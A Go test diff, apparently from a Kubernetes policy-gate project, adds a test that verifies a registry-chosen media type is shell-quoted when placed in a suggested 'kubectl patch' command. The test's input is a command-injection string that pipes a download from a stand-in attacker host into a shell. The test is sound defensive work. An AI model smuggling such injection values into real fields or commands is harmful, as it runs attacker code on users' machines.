@@ -4,6 +4,8 @@ import (
 	"context"
 	"crypto/sha256"
 	"encoding/hex"
+	"fmt"
+	"strings"
 	"sync/atomic"
 	"testing"
 
@@ -104,6 +106,25 @@ func TestExtractedArchives(t *testing.T) {
 			t.Errorf("fetched %d times", got)
 		}
 	})
+}
+
+// A registry chooses the media type, and the next step is a command that people paste.
+func TestAttackCommandInAMediaType(t *testing.T) {
+	const hostile = "x'; curl mallory.example | sh; '"
+	s := fine(t)
+	s.current = func() *policy.Set { return compile(t, requiring("acme", subject, unverified("2099-12-31"))) }
+	s.resolve = func(_ context.Context, ref chart.Reference) (artifact.Resolved, error) {
+		return artifact.Resolved{Location: ref.Location, Digest: digest(t, "a"), Layer: digest(t, "b"), LayerType: hostile, Other: true}, nil
+	}
+	s.archive = func(context.Context, artifact.Resolved) ([]byte, error) {
+		return nil, &problem.Error{Kind: problem.KindLimitExceeded, Detail: "too large"}
+	}
+	held := gate.Artifact{Manifest: digest(t, "a"), Archive: digest(t, "c"), Incomparable: true, Extracted: true, ByController: true}
+	v := s.gate().Decide(t.Context(), use(t, podinfo, holding(&held)))
+	want := problem.Quote(fmt.Sprintf(`{"spec":{"layerSelector":{"mediaType":%q,"operation":"copy"}}}`, hostile))
+	if v.Admits() || !strings.Contains(v.Message(), "--type=merge -p "+want) {
+		t.Errorf("the command is not quoted as %s: %s", want, v.Message())
+	}
 }
 
 // What source-controller says of its storage does not tell from where it is.
